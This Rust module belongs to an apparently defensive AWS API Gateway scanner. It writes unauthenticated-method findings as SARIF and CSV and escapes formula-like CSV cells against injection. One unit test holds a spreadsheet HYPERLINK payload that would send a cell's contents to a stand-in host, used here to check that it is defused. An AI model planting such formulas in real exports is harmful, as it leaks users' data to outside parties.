//! The sweep's reports for other tools: SARIF 2.1.0 for code scanning (one result per open
//! method, named by its ARN) and CSV for spreadsheets. Pure: a report in, text out.

use crate::domain::model::{ApiKind, Method};
use crate::domain::sweep::{open_by_place, profile_name, SweepReport};
use crate::error::{Error, Result};
use serde_json::{json, Value};

/// The method's ARN as IAM and CloudTrail name it: any stage, the verb, the path
/// (`arn:aws:execute-api:us-east-1:123456789012:a1b2c3/*/GET/pets`; a `$default` route is
/// `…/*/$default`).
pub fn method_arn(region: &str, account: &str, api_id: &str, m: &Method) -> String {
    let partition = if region.starts_with("cn-") {
        "aws-cn"
    } else if region.starts_with("us-gov-") {
        "aws-us-gov"
    } else {
        "aws"
    };
    let tail = if m.path == "$default" {
        "$default".to_string()
    } else {
        format!("{}{}", m.verb, m.path)
    };
    format!("arn:{partition}:execute-api:{region}:{account}:{api_id}/*/{tail}")
}

/// A method's ARN on one stage: `…:API/prod/GET/pets` from `…:API/*/GET/pets`.
pub fn stage_arn(any_stage_arn: &str, stage: &str) -> String {
    any_stage_arn.replacen("/*/", &format!("/{stage}/"), 1)
}

/// SARIF's rule id for an open method; stable across versions (CI baselines match on it).
pub const OPEN_METHOD_RULE: &str = "GH001";

/// The sweep as SARIF 2.1.0: one `error` result per open method except OPTIONS, located by the
/// method's ARN (logical location) and by a path `aws/ACCOUNT/REGION/API` (code scanning wants a
/// repository-relative path); regions that could not be read are notifications of the run.
pub fn sarif(report: &SweepReport, version: &str) -> Value {
    let mut results = Vec::new();
    for api in &report.apis {
        let r = &api.row;
        let places = open_by_place(&api.methods, &api.stages);
        // Every method open somewhere, the editor's first, then those only a stage serves open.
        let mut keys: Vec<&String> = Vec::new();
        for (_, open) in &places {
            for k in open {
                if !keys.contains(&k) {
                    keys.push(k);
                }
            }
        }
        let method_of = |key: &str| -> Option<&Method> {
            api.methods
                .iter()
                .chain(api.stages.iter().flat_map(|s| s.methods.iter()))
                .chain(
                    api.stages
                        .iter()
                        .flat_map(|s| s.canary.iter().flat_map(|c| c.methods.iter())),
                )
                .map(|v| &v.method)
                .find(|m| m.key() == key)
        };
        for what in keys {
            let Some(m) = method_of(what) else { continue };
            let arn = method_arn(&r.region, &r.account, &r.api_id, m);
            let in_editor = places[0].1.contains(what);
            let served_on: Vec<&(String, Vec<String>)> = places
                .iter()
                .skip(1)
                .filter(|(_, open)| open.contains(what))
                .collect();
            let on: Vec<&str> = served_on.iter().map(|(place, _)| place.as_str()).collect();
            let name = format!(
                "{} ({} API {}, {}, account {})",
                r.name,
                kind_word(r.kind),
                r.api_id,
                r.region,
                r.account
            );
            let text = match (in_editor, on.is_empty()) {
                (true, true) => format!("{what} of {name} has no authorization: anyone can call it. No stage serves it open yet."),
                (true, false) => format!("{what} of {name} has no authorization: anyone can call it. Served open on {}.", on.join(", ")),
                (false, _) => format!("{what} of {name} is protected in the editor, but {} serve{} it open: anyone can call it there until a deploy.", on.join(", "), if on.len() == 1 { "s" } else { "" }),
            };
            let mut logical =
                vec![json!({"fullyQualifiedName": arn, "name": what, "kind": "resource"})];
            for (place, _) in &served_on {
                let stage = place.split(" canary ").next().unwrap_or(place);
                logical.push(json!({"fullyQualifiedName": stage_arn(&arn, stage), "name": format!("{what} on {place}"), "kind": "resource"}));
            }
            results.push(json!({
                "ruleId": OPEN_METHOD_RULE,
                "ruleIndex": 0,
                "level": "error",
                "message": {"text": text},
                "locations": [{
                    "physicalLocation": {"artifactLocation": {
                        "uri": format!("aws/{}/{}/{}", r.account, r.region, uri_segment(&r.name)),
                        "uriBaseId": "AWS"}},
                    "logicalLocations": logical,
                }],
                "partialFingerprints": {"primaryLocationLineHash": fingerprint(&arn)},
                "properties": {"profile": profile_name(&r.profile), "account": r.account, "accountName": r.account_name, "region": r.region,
                               "apiId": r.api_id, "apiName": r.name, "kind": r.kind,
                               "managedBy": r.managed_by, "openInEditor": in_editor, "servedOpenOn": on},
            }));
        }
    }
    let notifications: Vec<Value> = report
        .errors
        .iter()
        .map(|e| {
            json!({
                "level": "error",
                "message": {"text": format!("{} in {} ({}): {}: {}",
                    profile_name(&e.profile), e.region.as_deref().unwrap_or("every region"),
                    e.account.as_deref().unwrap_or("account unknown"), e.code, e.message)},
            })
        })
        .collect();
    json!({
        "$schema": "https://json.schemastore.org/sarif-2.1.0.json",
        "version": "2.1.0",
        "runs": [{
            "tool": {"driver": {
                "name": "Gatehouse",
                "version": version,
                "informationUri": "https://github.com/gatehouse-app/gatehouse",
                "rules": [{
                    "id": OPEN_METHOD_RULE,
                    "name": "OpenApiMethod",
                    "shortDescription": {"text": "API Gateway method with no authorization"},
                    "fullDescription": {"text": "A REST API method or HTTP API route whose authorization type is NONE: anyone who knows the URL can call it. OPTIONS (the CORS preflight) is left out: browsers send no token on it."},
                    "help": {"text": "Protect the method with an authorizer (gatehouse protect --api API --all-open --pool POOL), or change the template that owns the API.", "markdown": "Protect the method with an authorizer: `gatehouse protect --api API --all-open --pool POOL`, or change the template that owns the API."},
                    "defaultConfiguration": {"level": "error"},
                    "properties": {"tags": ["security", "api-gateway"]},
                }],
            }},
            "originalUriBaseIds": {"AWS": {"description": {"text": "Resources in AWS, by account, region and API name"}}},
            "invocations": [{
                "executionSuccessful": report.errors.is_empty() && !report.cancelled,
                "toolExecutionNotifications": notifications,
            }],
            "results": results,
        }],
    })
}

fn kind_word(kind: ApiKind) -> &'static str {
    match kind {
        ApiKind::Rest => "REST",
        ApiKind::Http => "HTTP",
        ApiKind::Websocket => "WebSocket",
    }
}

/// A name as one path segment: letters, digits, '-', '_' and '.' kept, anything else '_'.
fn uri_segment(name: &str) -> String {
    name.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || "-_.".contains(c) {
                c
            } else {
                '_'
            }
        })
        .collect()
}

/// A stable fingerprint of a method's ARN (code scanning matches results across runs by it).
fn fingerprint(arn: &str) -> String {
    use sha1::{Digest, Sha1};
    hex::encode(Sha1::digest(arn.as_bytes()))
}

/// The CSV columns, in order.
pub const CSV_HEADER: &[&str] = &[
    "profile",
    "account",
    "region",
    "kind",
    "api_id",
    "name",
    "methods",
    "open",
    "open_options",
    "protected",
    "managed_by",
    "error",
    "served_open",
    "account_name",
];

/// A cell a spreadsheet will not run: text that starts like a formula (`=`, `+`, `-`, `@`, tab,
/// carriage return) gets a leading `'`, as OWASP advises against CSV injection. API and stack
/// names and AWS's messages are anyone's text; the counts Gatehouse writes never start so.
fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// The sweep as CSV: one line per API, then one per region that could not be read (its error in
/// the last column). Every cell is made inert (see [`inert`]).
pub fn csv(report: &SweepReport) -> Result<String> {
    let mut w = ::csv::Writer::from_writer(Vec::new());
    let io = |e: ::csv::Error| Error::Internal(format!("CSV: {e}"));
    w.write_record(CSV_HEADER).map_err(io)?;
    let mut write = |cells: [&str; 14]| {
        let cells = cells.map(inert);
        w.write_record(cells.iter().map(|c| c.as_bytes()))
            .map_err(io)
    };
    for a in &report.apis {
        let r = &a.row;
        write([
            profile_name(&r.profile),
            &r.account,
            &r.region,
            kind_word(r.kind),
            &r.api_id,
            &r.name,
            &r.methods.to_string(),
            &r.open.to_string(),
            &r.open_options.to_string(),
            &r.protected.to_string(),
            &r.owner(),
            "",
            &r.served_open.to_string(),
            r.account_name.as_deref().unwrap_or(""),
        ])?;
    }
    for e in &report.errors {
        write([
            profile_name(&e.profile),
            e.account.as_deref().unwrap_or(""),
            e.region.as_deref().unwrap_or(""),
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            &format!("{}: {}", e.code, e.message),
            "",
            e.account_name.as_deref().unwrap_or(""),
        ])?;
    }
    let bytes = w
        .into_inner()
        .map_err(|e| Error::Internal(format!("CSV: {e}")))?;
    String::from_utf8(bytes).map_err(|e| Error::Internal(format!("CSV: {e}")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::sweep::fixtures::{method, report};

    #[test]
    fn arns_name_any_stage_the_verb_and_the_path() {
        let m = method("/pets/{id}", "GET", "NONE");
        assert_eq!(
            method_arn("us-east-1", "123456789012", "a1b2", &m),
            "arn:aws:execute-api:us-east-1:123456789012:a1b2/*/GET/pets/{id}"
        );
        let d = method("$default", "ANY", "NONE");
        assert_eq!(
            method_arn("cn-north-1", "1", "x", &d),
            "arn:aws-cn:execute-api:cn-north-1:1:x/*/$default"
        );
    }

    #[test]
    fn sarif_has_one_error_result_per_open_method_except_options() {
        let doc = sarif(&report(), "1.2.3");
        assert_eq!(doc["version"], "2.1.0");
        let run = &doc["runs"][0];
        let results = run["results"].as_array().unwrap();
        assert_eq!(results.len(), 2);
        for r in results {
            assert_eq!(r["ruleId"], OPEN_METHOD_RULE);
            assert_eq!(r["level"], "error");
        }
        let names: Vec<&str> = results
            .iter()
            .map(|r| {
                r["locations"][0]["logicalLocations"][0]["fullyQualifiedName"]
                    .as_str()
                    .unwrap()
            })
            .collect();
        assert!(names
            .contains(&"arn:aws:execute-api:us-east-1:111122223333:Shop, \"EU\"-id/*/GET/cart"));
        assert_eq!(
            results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
            "aws/111122223333/us-east-1/Shop___EU_"
        );
        assert_eq!(run["invocations"][0]["executionSuccessful"], false);
        assert_eq!(
            run["invocations"][0]["toolExecutionNotifications"]
                .as_array()
                .unwrap()
                .len(),
            1
        );
    }

    #[test]
    fn csv_quotes_names_and_lists_errors_last() {
        let text = csv(&report()).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0], CSV_HEADER.join(","));
        assert!(lines[2].contains("\"Shop, \"\"EU\"\"\""), "{}", lines[2]);
        // served_open (added after error) is 0: no stage here; account_name (added last) is
        // empty: a profile's account has no name of its own.
        assert!(lines[2].ends_with(",3,2,1,0,shop-prod,,0,"), "{}", lines[2]);
        assert!(lines[3].starts_with("dev,111122223333,ap-east-1,"));
        assert!(lines[3].ends_with(
            "UnrecognizedClientException: The security token included in the request is invalid.,,"
        ));
    }

    #[test]
    fn csv_cells_that_start_like_a_formula_are_written_inert() {
        let mut r = report();
        let formula = r#"=HYPERLINK("https://x.example/?"&B2,"Pets")"#;
        r.apis[0].row.name = formula.into();
        r.apis[1].row.name = "+1 open".into();
        r.errors[0].code = "@SUM(A1)".into();
        let text = csv(&r).unwrap();
        let mut rows = ::csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<::csv::StringRecord> = rows.records().map(Result::unwrap).collect();
        assert_eq!(&rows[0][5], format!("'{formula}"));
        assert_eq!(&rows[1][5], "'+1 open");
        assert!(rows[2][11].starts_with("'@SUM(A1): "), "{:?}", &rows[2]);
        for (cell, shown) in [
            ("-2", "'-2"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("a=b", "a=b"),
            ("3", "3"),
            ("", ""),
        ] {
            assert_eq!(inert(cell), shown);
        }
        // The counts stay numbers.
        assert_eq!(&rows[1][6], "3");
    }
}
